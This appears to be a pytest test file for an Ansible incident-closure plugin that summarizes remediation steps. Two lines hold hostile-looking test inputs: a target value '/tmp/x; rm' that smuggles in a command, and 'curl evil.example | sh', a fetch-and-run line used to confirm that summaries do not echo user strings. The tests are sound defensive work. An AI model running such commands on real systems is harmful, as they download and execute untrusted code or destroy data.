# Copyright (c) 2026, the secops.incident_closure contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import pytest

from ansible_collections.secops.incident_closure.plugins.plugin_utils._remediation_steps import (
    STEPS,
    describe_steps,
    summarize,
)


def done(action, result="done", **fields):
    return {"action": action, "target": "/tmp/x; rm", "result": result, **fields}


def test_a_summary_counts_the_actions():
    evidence = [done("kill_process"), *[done("quarantine_file", sha256="ab")] * 2]
    assert summarize(evidence) == "1 process killed, 2 files quarantined"


@pytest.mark.parametrize(
    ("action", "summary"),
    [
        ("block_address", "1 address already blocked"),
        ("lock_user", "1 user already locked or absent"),
        ("stop_service", "1 service already stopped or absent"),
        ("kill_process", "1 process already absent"),
        ("remove_package", "1 package already absent"),
        ("quarantine_file", "1 file already absent"),
    ],
)
def test_a_summary_counts_entries_that_were_already_absent(action, summary):
    assert summarize([done(action, "already_absent")]) == summary


def test_a_summary_does_not_contain_strings_of_the_user():
    assert summarize([done("curl evil.example | sh"), done("Reimaged.")]) == "2 other actions done"


def test_a_summary_has_words_for_every_step():
    assert all("other" not in summarize([done(step.action)]) for step in STEPS.values())


def test_the_steps_on_a_host_are_one_line():
    entries = [
        {"action": "quarantine_file", "target": "/x", "result": "already_absent", "sha256": "ab", "time": "noon"},
        {"action": "Reimaged", "target": "", "result": "done", "time": ""},
    ]
    steps = "web1: quarantine_file /x (already absent, sha256 ab, noon); web1: Reimaged (done)"
    assert describe_steps("web1", entries) == steps
